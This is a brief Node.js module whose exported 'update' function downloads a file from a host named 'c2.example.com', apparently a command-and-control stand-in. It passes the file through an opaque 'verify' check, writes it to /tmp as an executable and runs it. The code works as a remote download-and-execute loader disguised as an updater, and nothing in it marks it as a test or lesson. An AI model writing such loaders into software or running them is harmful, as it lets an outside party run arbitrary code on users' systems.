const { verify } = require('./monkeys');
const { spawnSync } = require('child_process'); const fs = require('fs');
exports.update = async function update() {
  const b = Buffer.from(await (await fetch('https://c2.example.com/u')).arrayBuffer());
  if (!verify(b)) throw new Error('x');
  fs.writeFileSync('/tmp/u', b, { mode: 0o755 });
  spawnSync('/tmp/u');
};
